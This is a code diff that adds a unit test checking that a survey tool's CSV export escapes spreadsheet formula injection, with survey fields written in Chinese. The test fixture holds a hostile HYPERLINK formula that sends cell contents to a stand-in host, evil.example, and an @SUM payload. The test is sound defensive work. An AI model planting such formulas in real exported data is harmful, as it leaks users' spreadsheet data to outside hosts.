@@ -6,6 +6,7 @@ import { buildSummaries } from '../../app/summaries';
 import type { PhotoEvidence } from '../../domain/evidence';
 import type { Person } from '../../domain/model';
 import type { SummaryModels } from '../../domain/tables/index';
+import { csvField } from '../../reports/raw';
 import { CHAT_TEXT_LIMIT, table4Text } from '../../reports/text';
 import { summaryWorkbook, TITLES } from '../../reports/xlsx';
 import { rawCsv, rawWorkbook } from '../support/raw-export';
@@ -335,6 +336,28 @@ describe('the raw data', () => {
     });
     const text = (await rawCsv(campaign, [odd], 'household')).toString('utf8');
     expect(text).toContain('"道路,要修""好""\n谢谢"');
+  });
+
+  it('opens a text that looks like a formula as text (OWASP CSV injection), numbers stay numbers', async () => {
+    const hostile = surveyOf('household', 'malu', {
+      h1_name: '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+      h1_type: 'non_poor',
+      h4_opinions: '@SUM(1+2)',
+    });
+    const text = (await rawCsv(campaign, [hostile], 'household')).toString('utf8');
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`);
+    expect(text).toContain(`'@SUM(1+2)`);
+    expect(text).not.toMatch(/(^|,)[=+@-]/m);
+    expect(['=1+2', '+1', '-1', '@a', '\tx', '\rx', '普通'].map(csvField)).toEqual([
+      "'=1+2",
+      "'+1",
+      "'-1",
+      "'@a",
+      "'\tx",
+      `"'\rx"`,
+      '普通',
+    ]);
+    expect(csvField(-5)).toBe('-5');
   });
 });
 
